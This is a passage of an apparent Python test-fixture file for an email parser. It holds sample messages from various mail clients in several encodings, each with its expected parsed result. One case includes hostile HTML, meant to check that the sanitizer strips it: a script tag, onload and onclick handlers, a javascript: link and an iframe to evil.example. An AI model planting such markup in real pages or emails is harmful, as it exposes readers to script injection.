Subject: =?UTF-8?B?UmU6INCS0L7Qt9Cy0YDQsNGC?=
MIME-Version: 1.0
X-Mailer: Mail.Ru Mailer 1.0
Date: Tue, 05 Mar 2024 13:00:00 +0300
Message-ID: <1709632800.987@f411.i.mail.ru>
In-Reply-To: <ticket-9-out@shop.example>
Content-Type: multipart/alternative;
\tboundary="--ALT--1709632800"

----ALT--1709632800
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

{b64(plain.encode())}
----ALT--1709632800
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: base64

{b64("<div>Добрый день. Подскажите, когда будет возврат?</div>".encode())}
----ALT--1709632800--
"""), exp("elena.k@inbox.ru", "Елена", "Re: Возврат", "2024-03-05T10:00:00+00:00", "1709632800.987@f411.i.mail.ru",
          in_reply_to="ticket-9-out@shop.example", text=plain.strip("\n"),
          reply_text="Добрый день. Подскажите, когда будет возврат?"))

case("mailru-autoreply", crlf(f"""From: =?UTF-8?B?0JjQs9C+0YDRjA==?= <igor.p@list.ru>
To: {SUPPORT}
Subject: =?UTF-8?B?0JDQstGC0L7QvtGC0LLQtdGCOiBSZTog0JfQsNGP0LLQutCw?=
MIME-Version: 1.0
X-Mailer: Mail.Ru Mailer 1.0
X-Mailru-Msgtype: autoreply
Auto-Submitted: auto-replied
Date: Wed, 06 Mar 2024 08:00:00 +0300
Message-ID: <auto.1709701200@f52.i.mail.ru>
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

{b64("Спасибо за письмо! Я отвечу в ближайшее время.".encode())}
"""), exp("igor.p@list.ru", "Игорь", "Автоответ: Re: Заявка", "2024-03-06T05:00:00+00:00", "auto.1709701200@f52.i.mail.ru",
          is_auto=True, auto_kind="autoreply", text="Спасибо за письмо! Я отвечу в ближайшее время."))

plain = """Спасибо, получила.

04.03.2024, 10:00, "Поддержка" <support@shop.example>:

> Счёт во вложении.
"""
case("yandex-reply", crlf(f"""Received: from mail-nwsmtp-smtp-production-main-59.vla.yp-c.yandex.net
From: =?utf-8?B?0JzQsNGA0LjQvdCwINCa0YPQt9C90LXRhtC+0LLQsA==?= <m.kuznetsova@yandex.ru>
To: =?utf-8?B?0J/QvtC00LTQtdGA0LbQutCw?= <{SUPPORT}>
In-Reply-To: <ticket-12-out@shop.example>
References: <ticket-12-out@shop.example>
Subject: =?utf-8?B?UmU6INCh0YfRkdGC?=
MIME-Version: 1.0
X-Mailer: Yamail [ http://yandex.ru ] 5.0
Date: Wed, 06 Mar 2024 09:30:00 +0300
Message-Id: <123451709706600@mail.yandex.ru>
Content-Transfer-Encoding: base64
Content-Type: text/plain; charset=utf-8

{b64(plain.encode())}
"""), exp("m.kuznetsova@yandex.ru", "Марина Кузнецова", "Re: Счёт", "2024-03-06T06:30:00+00:00",
          "123451709706600@mail.yandex.ru", in_reply_to="ticket-12-out@shop.example",
          references=["ticket-12-out@shop.example"], text=plain.strip("\n"), reply_text="Спасибо, получила."))

case("yandex-ooo", crlf(f"""From: =?utf-8?B?0JDQu9C10LrRgdC10Lk=?= <alexey.n@yandex.ru>
To: {SUPPORT}
Subject: =?utf-8?B?0K8g0LIg0L7RgtC/0YPRgdC60LU=?=
Auto-Submitted: auto-replied
MIME-Version: 1.0
Date: Wed, 06 Mar 2024 10:00:00 +0300
Message-Id: <autoreply.555@mail.yandex.ru>
Content-Transfer-Encoding: 8bit
Content-Type: text/plain; charset=utf-8

Я нахожусь в отпуске до 20 марта.
"""), exp("alexey.n@yandex.ru", "Алексей", "Я в отпуске", "2024-03-06T07:00:00+00:00", "autoreply.555@mail.yandex.ru",
          is_auto=True, auto_kind="ooo", text="Я нахожусь в отпуске до 20 марта."))

case("yandex-ew-filename", crlf(f"""From: =?utf-8?B?0J3QuNC60LjRgtCw?= <nikita@yandex.ru>
To: {SUPPORT}
Subject: =?utf-8?B?0KTQvtGC0L4=?=
MIME-Version: 1.0
Date: Wed, 06 Mar 2024 11:00:00 +0300
Message-Id: <photo.777@mail.yandex.ru>
Content-Type: multipart/mixed;
\tboundary="----==--bound.777.sas1-abc.yandex.ru"

------==--bound.777.sas1-abc.yandex.ru
Content-Transfer-Encoding: 8bit
Content-Type: text/html; charset=utf-8

<div>Фото повреждения во вложении</div>
------==--bound.777.sas1-abc.yandex.ru
Content-Disposition: attachment;
\tfilename="=?utf-8?B?0KTQvtGC0L4g0YPQv9Cw0LrQvtCy0LrQuC5qcGc=?="
Content-Transfer-Encoding: base64
Content-Type: image/jpeg;
\tname="=?utf-8?B?0KTQvtGC0L4g0YPQv9Cw0LrQvtCy0LrQuC5qcGc=?="

{b64(JPG)}
------==--bound.777.sas1-abc.yandex.ru--
"""), exp("nikita@yandex.ru", "Никита", "Фото", "2024-03-06T08:00:00+00:00", "photo.777@mail.yandex.ru",
          text="Фото повреждения во вложении", attachments=[att("Фото упаковки.jpg", "image/jpeg", len(JPG), False)]))

# ---------------------------------------------------------------------------------------------- Apple Mail
plain = """Yes, Thursday works for the pickup.

Sent from my iPhone

> On 4 Mar 2024, at 10:00, Shop Support <support@shop.example> wrote:
>=20
> Which day suits you for the pickup?
"""
case("apple-iphone-en", crlf(f"""Content-Type: text/plain;
\tcharset=us-ascii
Content-Transfer-Encoding: quoted-printable
From: Olivia Wilson <olivia.wilson@icloud.com>
Mime-Version: 1.0 (1.0)
Date: Mon, 4 Mar 2024 18:03:44 +0000
Subject: Re: Pickup
Message-Id: <5E2A1B3C-9D8E-4F7A-B6C5-D4E3F2A1B0C9@icloud.com>
References: <ticket-31-out@shop.example>
In-Reply-To: <ticket-31-out@shop.example>
To: Shop Support <{SUPPORT}>
X-Mailer: iPhone Mail (21D61)

{plain}"""), exp("olivia.wilson@icloud.com", "Olivia Wilson", "Re: Pickup", "2024-03-04T18:03:44+00:00",
                 "5E2A1B3C-9D8E-4F7A-B6C5-D4E3F2A1B0C9@icloud.com", in_reply_to="ticket-31-out@shop.example",
                 references=["ticket-31-out@shop.example"],
                 text=plain.replace(">=20", "> ").strip("\n"), reply_text="Yes, Thursday works for the pickup."))

plain = """Добрый вечер! Да, можно в четверг.

Отправлено с iPhone

> 4 марта 2024 г., в 10:00, Поддержка <support@shop.example> написал(а):
>
> Когда вам удобно?
"""
case("apple-iphone-ru", crlf(f"""Content-Type: text/plain;
\tcharset=utf-8
Content-Transfer-Encoding: quoted-printable
From: =?utf-8?Q?=D0=94=D0=B5=D0=BD=D0=B8=D1=81_=D0=9E=D1=80=D0=BB=D0=BE=D0=B2?= <denis.orlov@me.com>
Mime-Version: 1.0 (1.0)
Date: Mon, 4 Mar 2024 21:00:00 +0300
Subject: =?utf-8?Q?Re:_=D0=94=D0=BE=D1=81=D1=82=D0=B0=D0=B2=D0=BA=D0=B0?=
Message-Id: <A1B2C3D4-0000-4F7A-B6C5-D4E3F2A1B0C9@me.com>
To: =?utf-8?Q?=D0=9F=D0=BE=D0=B4=D0=B4=D0=B5=D1=80=D0=B6=D0=BA=D0=B0?= <{SUPPORT}>
X-Mailer: iPhone Mail (21D61)

{qp(plain)}"""), exp("denis.orlov@me.com", "Денис Орлов", "Re: Доставка", "2024-03-04T18:00:00+00:00",
                     "A1B2C3D4-0000-4F7A-B6C5-D4E3F2A1B0C9@me.com", text=plain.strip("\n"),
                     reply_text="Добрый вечер! Да, можно в четверг."))

APPLE_PLAIN = qp("Bonjour,\n\nVoici la facture et une photo du défaut.\n\nSophie\n")
case("apple-mail-mixed-html", crlf(f"""From: Sophie Martin <sophie.martin@icloud.com>
Content-Type: multipart/alternative;
\tboundary="Apple-Mail=_8D2F6A10-1B2C-4D3E-9F8A-7B6C5D4E3F2A"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.400.31\\))
Subject: Facture et photo
Date: Tue, 5 Mar 2024 17:20:00 +0100
Message-Id: <B7C8D9E0-F1A2-4B3C-8D4E-5F6A7B8C9D0E@icloud.com>
To: {SUPPORT}
X-Mailer: Apple Mail (2.3774.400.31)


--Apple-Mail=_8D2F6A10-1B2C-4D3E-9F8A-7B6C5D4E3F2A
Content-Transfer-Encoding: quoted-printable
Content-Type: text/plain;
\tcharset=utf-8

{APPLE_PLAIN}
--Apple-Mail=_8D2F6A10-1B2C-4D3E-9F8A-7B6C5D4E3F2A
Content-Type: multipart/mixed;
\tboundary="Apple-Mail=_11AA22BB-33CC-44DD-55EE-66FF77008899"


--Apple-Mail=_11AA22BB-33CC-44DD-55EE-66FF77008899
Content-Transfer-Encoding: quoted-printable
Content-Type: text/html;
\tcharset=utf-8

{qp('<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body>Bonjour,<div><br></div><div>Voici la facture et une photo du défaut.</div><div><br></div></body></html>')}
--Apple-Mail=_11AA22BB-33CC-44DD-55EE-66FF77008899
Content-Disposition: attachment;
\tfilename*=utf-8''Facture%20n%C2%B0%2012.pdf
Content-Type: application/pdf;
\tx-unix-mode=0644;
\tname="=?utf-8?Q?Facture_n=C2=B0_12=2Epdf?="
Content-Transfer-Encoding: base64

{b64(PDF)}
--Apple-Mail=_11AA22BB-33CC-44DD-55EE-66FF77008899
Content-Transfer-Encoding: quoted-printable
Content-Type: text/html;
\tcharset=utf-8

<html><head><meta http-equiv=3D"content-type" content=3D"text/html; charset=3Dutf-8"></head><body><div>Sophie</div></body></html>
--Apple-Mail=_11AA22BB-33CC-44DD-55EE-66FF77008899--

--Apple-Mail=_8D2F6A10-1B2C-4D3E-9F8A-7B6C5D4E3F2A--
"""), exp("sophie.martin@icloud.com", "Sophie Martin", "Facture et photo", "2024-03-05T16:20:00+00:00",
          "B7C8D9E0-F1A2-4B3C-8D4E-5F6A7B8C9D0E@icloud.com",
          text="Bonjour,\n\nVoici la facture et une photo du défaut.\n\nSophie",
          attachments=[att("Facture n° 12.pdf", "application/pdf", len(PDF))],
          html_contains=["Voici la facture", "<div>Sophie</div>"]))

# ---------------------------------------------------------------------------------------------- Thunderbird
case("thunderbird-flowed", crlf(f"""Message-ID: <0f9e8d7c-6b5a-4c3d-2e1f-0a9b8c7d6e5f@posteo.de>
Date: Tue, 5 Mar 2024 20:15:42 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: en-US
To: Shop Support <{SUPPORT}>
From: Jan Novak <jan.novak@posteo.de>
Subject: Re: Warranty claim 4471
In-Reply-To: <ticket-4471-out@shop.example>
References: <ticket-4471-first@shop.example>
 <ticket-4471-out@shop.example>
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

The serial number is on the bottom of the device, it reads SN-2024-99812{SP}
and the purchase date was 12 January.

On 05.03.2024 10:00, Shop Support wrote:
> Please send us the serial number of the device so that we can check{SP}
> the warranty.

--{SP}
Jan Novak
Prague
"""), exp("jan.novak@posteo.de", "Jan Novak", "Re: Warranty claim 4471", "2024-03-05T19:15:42+00:00",
          "0f9e8d7c-6b5a-4c3d-2e1f-0a9b8c7d6e5f@posteo.de", in_reply_to="ticket-4471-out@shop.example",
          references=["ticket-4471-first@shop.example", "ticket-4471-out@shop.example"],
          text="The serial number is on the bottom of the device, it reads SN-2024-99812 and the purchase date "
               "was 12 January.\n\nOn 05.03.2024 10:00, Shop Support wrote:\n> Please send us the serial number "
               "of the device so that we can check the warranty.\n\n-- \nJan Novak\nPrague",
          reply_text="The serial number is on the bottom of the device, it reads SN-2024-99812 and the purchase "
                     "date was 12 January."))

case("thunderbird-koi8r", crlf(f"""Message-ID: <3c2b1a09-8f7e-6d5c@example.net.ru>
Date: Tue, 5 Mar 2024 21:00:00 +0300
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
From: =?KOI8-R?Q?=F7=C9=CB=D4=CF=D2_=EC=C5=C2=C5=C4=C5=D7?= <v.lebedev@example.net.ru>
To: {SUPPORT}
Subject: =?KOI8-R?Q?=FA=C1=CB=C1=DA_=CE=C5_=D0=D2=C9=DB=C5=CC?=
Content-Type: text/plain; charset=KOI8-R
Content-Transfer-Encoding: 8bit

""").encode("ascii") + crlf("""Заказ 7788 не пришёл, прошу проверить.

05.03.2024 10:00, Поддержка пишет:
> Заказ отправлен.
""").encode("koi8_r"),
     exp("v.lebedev@example.net.ru", "Виктор Лебедев", "Заказ не пришел", "2024-03-05T18:00:00+00:00",
         "3c2b1a09-8f7e-6d5c@example.net.ru",
         text="Заказ 7788 не пришёл, прошу проверить.\n\n05.03.2024 10:00, Поддержка пишет:\n> Заказ отправлен.",
         reply_text="Заказ 7788 не пришёл, прошу проверить."))

case("thunderbird-forward-rfc822", crlf(f"""Message-ID: <fwd-att-1@example.net>
Date: Wed, 6 Mar 2024 09:00:00 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
From: Office Manager <office@example.net>
To: {SUPPORT}
Subject: Fwd: =?UTF-8?B?0J/RgNC+0LHQu9C10LzQsCDRgSDQvtC/0LvQsNGC0L7QuQ==?=
Content-Type: multipart/mixed; boundary="------------Zq1Xw2Ec3Rv4Tb5Yn6Um7I"

This is a multi-part message in MIME format.
--------------Zq1Xw2Ec3Rv4Tb5Yn6Um7I
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

Forwarding the customer's complaint.

--------------Zq1Xw2Ec3Rv4Tb5Yn6Um7I
Content-Type: message/rfc822; name="=?UTF-8?Q?=D0=9F=D1=80=D0=BE=D0=B1=D0=BB=D0=B5=D0=BC=D0=B0.eml?="
Content-Disposition: attachment; filename*=UTF-8''%D0%9F%D1%80%D0%BE%D0%B1%D0%BB%D0%B5%D0%BC%D0%B0.eml

From: =?UTF-8?B?0JrQu9C40LXQvdGC?= <client@example.org>
To: office@example.net
Subject: =?UTF-8?B?0J/RgNC+0LHQu9C10LzQsCDRgSDQvtC/0LvQsNGC0L7QuQ==?=
Date: Tue, 5 Mar 2024 18:00:00 +0300
Message-ID: <inner-1@example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: base64

{b64("Оплата прошла дважды, верните одну.".encode())}

--------------Zq1Xw2Ec3Rv4Tb5Yn6Um7I--
"""), exp("office@example.net", "Office Manager", "Fwd: Проблема с оплатой", "2024-03-06T08:00:00+00:00",
          "fwd-att-1@example.net",
          attachments=[att("Проблема.eml", "message/rfc822", 414, verbatim=True)],
          text="Forwarding the customer's complaint.\n\n---------- Forwarded message ----------\n"
               "From: Клиент <client@example.org>\nDate: Tue, 5 Mar 2024 18:00:00 +0300\n"
               "Subject: Проблема с оплатой\nTo: office@example.net\n\nОплата прошла дважды, верните одну.",
          reply_text="Forwarding the customer's complaint.\n\n---------- Forwarded message ----------\n"
                     "From: Клиент <client@example.org>\nDate: Tue, 5 Mar 2024 18:00:00 +0300\n"
                     "Subject: Проблема с оплатой\nTo: office@example.net\n\nОплата прошла дважды, верните одну."))

case("thunderbird-related-cid", crlf(f"""Message-ID: <tb-cid@example.net>
Date: Wed, 6 Mar 2024 10:00:00 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
From: Piotr Zieliński <piotr@example.pl>
To: {SUPPORT}
Subject: Screenshot
Content-Type: multipart/related; boundary="------------Rel123"

--------------Rel123
Content-Type: text/html; charset=UTF-8
Content-Transfer-Encoding: 8bit

<html><head><meta http-equiv="content-type" content="text/html; charset=UTF-8"></head><body><p>Błąd przy płatności:</p><p><img src="cid:part1.Ab12Cd34.Ef56Gh78@example.pl" alt=""></p></body></html>
--------------Rel123
Content-Type: image/png; name="screenshot.png"
Content-Disposition: inline; filename="screenshot.png"
Content-Id: <part1.Ab12Cd34.Ef56Gh78@example.pl>
Content-Transfer-Encoding: base64

{b64(PNG)}
--------------Rel123--
"""), exp("piotr@example.pl", "Piotr Zieliński", "Screenshot", "2024-03-06T09:00:00+00:00", "tb-cid@example.net",
          text="Błąd przy płatności:", defects_contains=["8-bit header"],
          attachments=[att("screenshot.png", "image/png", len(PNG), True,
                           content_id="part1.Ab12Cd34.Ef56Gh78@example.pl")],
          html_contains=['src="cid:part1.Ab12Cd34.Ef56Gh78@example.pl"']))

# ---------------------------------------------------------------------------------------------- old mailers
body = "Здравствуйте!\r\nПрошу выставить счёт на 10 коробок.\r\n--\r\nБухгалтерия ООО \"Ромашка\"\r\n"
case("thebat-koi8-labelled-cp1251", crlf(f"""Date: Thu, 7 Mar 2024 11:11:11 +0300
From: =?windows-1251?B?{base64.b64encode("Бухгалтерия".encode("koi8_r")).decode()}?= <buh@romashka.example.ru>
X-Mailer: The Bat! (v3.85.03) Professional
Reply-To: =?windows-1251?B?{base64.b64encode("Бухгалтерия".encode("koi8_r")).decode()}?= <buh@romashka.example.ru>
X-Priority: 3 (Normal)
Message-ID: <1234567890.20240307111111@romashka.example.ru>
To: {SUPPORT}
Subject: =?windows-1251?B?{base64.b64encode("Счёт на коробки".encode("koi8_r")).decode()}?=
MIME-Version: 1.0
Content-Type: text/plain; charset=windows-1251
Content-Transfer-Encoding: 8bit

""").encode("ascii") + body.encode("koi8_r"),
     exp("buh@romashka.example.ru", "Бухгалтерия", "Счёт на коробки", "2024-03-07T08:11:11+00:00",
         "1234567890.20240307111111@romashka.example.ru", reply_to=["buh@romashka.example.ru"],
         text=body.replace("\r\n", "\n").strip("\n"), reply_text="Здравствуйте!\nПрошу выставить счёт на 10 коробок.",
         defects_contains=["text/plain: charset mislabelled: declared windows-1251, decoded as koi8_r"]))

body = "Добрый день!\r\nВозврат по чеку 5511 так и не поступил.\r\nС уважением, Нина Павловна\r\n"
case("oe6-cp1251-undeclared", (crlf("""Message-ID: <000801c4a1b2$3c4d5e60$0100a8c0@nina>
From: """).encode() + '"Нина Павловна"'.encode("cp1251") + crlf(f""" <nina.p@narod.example.ru>
To: <{SUPPORT}>
Subject: """).encode() + "Возврат денег".encode("cp1251") + crlf("""
Date: Thu, 7 Mar 2024 12:00:00 +0300
MIME-Version: 1.0
Content-Type: text/plain
Content-Transfer-Encoding: 8bit
X-Priority: 3
X-MSMail-Priority: Normal
X-Mailer: Microsoft Outlook Express 6.00.2900.5512

""").encode() + body.encode("cp1251")),
     exp("nina.p@narod.example.ru", "Нина Павловна", "Возврат денег", "2024-03-07T09:00:00+00:00",
         "000801c4a1b2$3c4d5e60$0100a8c0@nina", text=body.replace("\r\n", "\n").strip("\n"),
         reply_text=body.replace("\r\n", "\n").strip("\n"),
         defects_contains=["8-bit header (charset missing, guessed cp1251)"]))

body = "Уважаемые господа!\r\nНапоминаем о сверке остатков на складе.\r\n"
case("cp1251-labelled-koi8", crlf(f"""From: sklad@torg.example.ru
To: {SUPPORT}
Subject: =?koi8-r?B?{base64.b64encode("Сверка остатков".encode("cp1251")).decode()}?=
Date: Thu, 7 Mar 2024 13:00:00 +0300
Message-ID: <sverka-1@torg.example.ru>
MIME-Version: 1.0
Content-Type: text/plain; charset="koi8-r"
Content-Transfer-Encoding: quoted-printable

""").encode() + qp(body, "cp1251").encode(),
     exp("sklad@torg.example.ru", "", "Сверка остатков", "2024-03-07T10:00:00+00:00", "sverka-1@torg.example.ru",
         text=body.replace("\r\n", "\n").strip("\n"),
         defects_contains=["text/plain: charset mislabelled: declared koi8-r, decoded as cp1251"]))

body = "Привет! Это письмо в UTF-8, хотя заголовок говорит windows-1251.\r\n"
case("utf8-labelled-cp1251", crlf(f"""From: Robot <noreply-not@crm.example.ru>
To: {SUPPORT}
Subject: =?windows-1251?B?{base64.b64encode("Новая заявка".encode()).decode()}?=
Date: Thu, 7 Mar 2024 14:00:00 +0300
Message-ID: <crm-1@crm.example.ru>
MIME-Version: 1.0
Content-Type: text/plain; charset=windows-1251
Content-Transfer-Encoding: base64

{b64(body.encode())}
"""), exp("noreply-not@crm.example.ru", "Robot", "Новая заявка", "2024-03-07T11:00:00+00:00", "crm-1@crm.example.ru",
          text=body.strip("\r\n"),
          defects_contains=["text/plain: charset mislabelled: declared windows-1251, decoded as utf-8"]))

case("utf8-raw-no-mime", (crlf("""From: """).encode() + "Józef Kowalczyk".encode() + crlf(f""" <jozef@poczta.example.pl>
To: {SUPPORT}
Subject: """).encode() + "Zażółć gęślą jaźń".encode() + crlf("""
Date: Thu, 7 Mar 2024 15:00:00 +0100
Message-ID: <raw-utf8@poczta.example.pl>

""").encode() + "Paczka dotarła uszkodzona, proszę o kontakt.\r\n".encode()),
     exp("jozef@poczta.example.pl", "Józef Kowalczyk", "Zażółć gęślą jaźń", "2024-03-07T14:00:00+00:00",
         "raw-utf8@poczta.example.pl", text="Paczka dotarła uszkodzona, proszę o kontakt."))

body = "Bonjour, j’attends toujours ma commande « n° 881 » — merci de vérifier.\r\n"
case("latin1-labelled-cp1252", crlf(f"""From: Claire Petit <claire.petit@free.fr>
To: {SUPPORT}
Subject: =?ISO-8859-1?Q?Commande_=AB_881_=BB?=
Date: Thu, 7 Mar 2024 16:00:00 +0100
Message-ID: <cp1252@free.fr>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-8859-1
Content-Transfer-Encoding: quoted-printable

""").encode() + qp(body, "cp1252").encode(),
     exp("claire.petit@free.fr", "Claire Petit", "Commande « 881 »", "2024-03-07T15:00:00+00:00", "cp1252@free.fr",
         text=body.strip("\r\n")))

body = "Dzień dobry, proszę o zwrot środków. Łącznie 150 zł.\r\n"
case("iso88592-labelled-cp1250", crlf(f"""From: =?iso-8859-2?Q?Ma=B3gorzata_Lis?= <m.lis@onet.example.pl>
To: {SUPPORT}
Subject: Zwrot
Date: Thu, 7 Mar 2024 17:00:00 +0100
Message-ID: <cp1250@onet.example.pl>
MIME-Version: 1.0
Content-Type: text/plain; charset=iso-8859-2
Content-Transfer-Encoding: 8bit

""").encode() + body.encode("cp1250"),
     exp("m.lis@onet.example.pl", "Małgorzata Lis", "Zwrot", "2024-03-07T16:00:00+00:00", "cp1250@onet.example.pl",
         text=body.strip("\r\n"), defects_contains=["text/plain: charset mislabelled: declared iso-8859-2, decoded as cp1250"]))

case("html-meta-charset", crlf(f"""From: shop-owner@torg.example.ru
To: {SUPPORT}
Subject: Price list
Date: Thu, 7 Mar 2024 18:00:00 +0300
Message-ID: <meta-cs@torg.example.ru>
MIME-Version: 1.0
Content-Type: text/html
Content-Transfer-Encoding: 8bit

""").encode() + '<html><head><meta charset="windows-1251"></head><body><p>Новый прайс-лист на март.</p></body></html>\r\n'.encode("cp1251"),
     exp("shop-owner@torg.example.ru", "", "Price list", "2024-03-07T15:00:00+00:00", "meta-cs@torg.example.ru",
         text="Новый прайс-лист на март.", html_contains=["<p>Новый прайс-лист на март.</p>"]))

# ---------------------------------------------------------------------------------------------- HTML-only, lists
html = """<html><head><title>secret title</title><style>body{color:red}</style>
<script>alert('x')</script></head><body onload="steal()">
<h1>Order problem</h1><p>My order <b>#4410</b> is missing two items:</p>
<ul><li>Blue mug</li><li>Tea spoon</li></ul>
<p>Details <a href="https://shop.example/orders/4410" onclick="evil()">here</a>.</p>
<a href="javascript:alert(1)">click</a><iframe src="https://evil.example"></iframe>
<table><tr><td>Qty</td><td>2</td></tr></table></body></html>"""
case("html-only-hostile", crlf(f"""From: Web Form <form@shop-site.example>
To: {SUPPORT}
Subject: Order problem
Date: Fri, 8 Mar 2024 08:00:00 +0000
Message-ID: <form-1@shop-site.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

{qp(html)}"""), exp("form@shop-site.example", "Web Form", "Order problem", "2024-03-08T08:00:00+00:00",
                    "form-1@shop-site.example",
                    text="Order problem\n\nMy order #4410 is missing two items:\n\n- Blue mug\n- Tea spoon\n\n"
                         "Details here (https://shop.example/orders/4410).\n\nclick\n\nQty 2",
                    html_contains=["<h1>Order problem</h1>", "<li>Blue mug</li>", 'href="https://shop.example/orders/4410"'],
                    html_excludes=["<script", "alert", "onload", "onclick", "javascript:", "<iframe", "secret title",
                                   "color:red"]))

case("newsletter-list", crlf(f"""From: "Supplier News" <news@supplier.example>
To: {SUPPORT}
Subject: March offers
Date: Fri, 8 Mar 2024 09:00:00 +0000
Message-ID: <news-2024-03@supplier.example>
List-Unsubscribe: <mailto:unsubscribe@supplier.example?subject=unsubscribe>, <https://supplier.example/u/abc>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
Precedence: bulk
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<table><tr><td><h2>Spring sale</h2></td></tr><tr><td>Up to 30% off garden tools.</td></tr></table>
"""), exp("news@supplier.example", "Supplier News", "March offers", "2024-03-08T09:00:00+00:00",
          "news-2024-03@supplier.example", is_auto=True, auto_kind="list",
          text="Spring sale\n\nUp to 30% off garden tools."))

case("precedence-junk", crlf(f"""From: Alerts <alerts@monitoring.example>
To: {SUPPORT}
Subject: Disk space warning on shop-db
Date: Fri, 8 Mar 2024 10:00:00 +0000
Message-ID: <alert-1@monitoring.example>
Precedence: junk

Disk usage is at 91%.
"""), exp("alerts@monitoring.example", "Alerts", "Disk space warning on shop-db", "2024-03-08T10:00:00+00:00",
          "alert-1@monitoring.example", is_auto=True, auto_kind="list", text="Disk usage is at 91%."))

# ---------------------------------------------------------------------------------------------- auto-replies
case("autoreply-x-autoreply", crlf(f"""From: Info Desk <info@partner.example>
To: {SUPPORT}
Subject: Auto: Re: Delivery schedule
Date: Fri, 8 Mar 2024 11:00:00 +0000
Message-ID: <auto-1@partner.example>
X-Autoreply: yes
Content-Type: text/plain; charset=us-ascii

Thank you for your message. We will reply within two working days.
"""), exp("info@partner.example", "Info Desk", "Auto: Re: Delivery schedule", "2024-03-08T11:00:00+00:00",
          "auto-1@partner.example", is_auto=True, auto_kind="autoreply",
          text="Thank you for your message. We will reply within two working days."))

case("autoreply-pl-ooo", crlf(f"""From: =?UTF-8?Q?Tomasz_W=C3=B3jcik?= <t.wojcik@firma.example.pl>
To: {SUPPORT}
Subject: =?UTF-8?Q?Automatyczna_odpowied=C5=BA:_Zam=C3=B3wienie_55?=
Date: Fri, 8 Mar 2024 12:00:00 +0100
Message-ID: <ooo-pl@firma.example.pl>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Jestem na urlopie do 18 marca. W pilnych sprawach proszę pisać do biuro@firma.example.pl.
"""), exp("t.wojcik@firma.example.pl", "Tomasz Wójcik", "Automatyczna odpowiedź: Zamówienie 55",
          "2024-03-08T11:00:00+00:00", "ooo-pl@firma.example.pl", is_auto=True, auto_kind="ooo",
          text="Jestem na urlopie do 18 marca. W pilnych sprawach proszę pisać do biuro@firma.example.pl."))

case("autoreply-fr-ooo", crlf(f"""From: =?UTF-8?Q?Am=C3=A9lie_Roux?= <amelie.roux@entreprise.example.fr>
To: {SUPPORT}
Subject: =?UTF-8?Q?R=C3=A9ponse_automatique_:_Commande_n=C2=B0_9?=
Date: Fri, 8 Mar 2024 13:00:00 +0100
Message-ID: <ooo-fr@entreprise.example.fr>
X-Auto-Response-Suppress: All
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour, je suis absente jusqu'au 15 mars inclus.
"""), exp("amelie.roux@entreprise.example.fr", "Amélie Roux", "Réponse automatique : Commande n° 9",
          "2024-03-08T12:00:00+00:00", "ooo-fr@entreprise.example.fr", is_auto=True, auto_kind="ooo",
          text="Bonjour, je suis absente jusqu'au 15 mars inclus."))

case("autoreply-ooo-subject-only", crlf(f"""From: Hans Weber <hans.weber@example.de>
To: {SUPPORT}
Subject: Out of Office: Re: Invoice 2024-17
Date: Fri, 8 Mar 2024 14:00:00 +0100
Message-ID: <ooo-old@example.de>

I will be out of the office starting 08.03.2024 and will not return until 15.03.2024.
"""), exp("hans.weber@example.de", "Hans Weber", "Out of Office: Re: Invoice 2024-17", "2024-03-08T13:00:00+00:00",
          "ooo-old@example.de", is_auto=True, auto_kind="ooo",
          text="I will be out of the office starting 08.03.2024 and will not return until 15.03.2024."))

case("read-receipt-mdn", crlf(f"""From: Buyer <buyer@client.example>
To: {SUPPORT}
Subject: Read: Your invoice
Date: Fri, 8 Mar 2024 15:00:00 +0000
Message-ID: <mdn-1@client.example>
MIME-Version: 1.0
Content-Type: multipart/report; report-type=disposition-notification;
\tboundary="----=_MDN"

------=_MDN
Content-Type: text/plain; charset=us-ascii

Your message was read on Friday, March 8, 2024.

------=_MDN
Content-Type: message/disposition-notification

Reporting-UA: client.example; Microsoft Outlook 16.0
Final-Recipient: rfc822;buyer@client.example
Original-Message-ID: <invoice-1@shop.example>
Disposition: manual-action/MDN-sent-manually; displayed

------=_MDN--
"""), exp("buyer@client.example", "Buyer", "Read: Your invoice", "2024-03-08T15:00:00+00:00", "mdn-1@client.example",
          is_auto=True, auto_kind="autoreply", text="Your message was read on Friday, March 8, 2024.",
          attachments=[att("attachment-1.txt", "message/disposition-notification", 202, verbatim=True)]))

case("customer-mentions-vacation", crlf(f"""From: Greg <greg@example.com>
To: {SUPPORT}
Subject: Order while I was on vacation
Date: Fri, 8 Mar 2024 16:00:00 +0000
Message-ID: <vac-human@example.com>

Hi, I was on vacation last week and the parcel was returned. Can you resend it?
"""), exp("greg@example.com", "Greg", "Order while I was on vacation", "2024-03-08T16:00:00+00:00",
          "vac-human@example.com", text="Hi, I was on vacation last week and the parcel was returned. Can you resend it?"))

# ---------------------------------------------------------------------------------------------- bounces
case("bounce-postfix", crlf(f"""Return-Path: <>
Date: Sat,  9 Mar 2024 10:00:00 +0100 (CET)
From: MAILER-DAEMON@mx1.shop.example (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: {SUPPORT}
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="4TsZ5b1kHxz9rwN.1709974800/mx1.shop.example"
Message-Id: <4TsZ5b1kHxz9rwN@mx1.shop.example>

This is a MIME-encapsulated message.

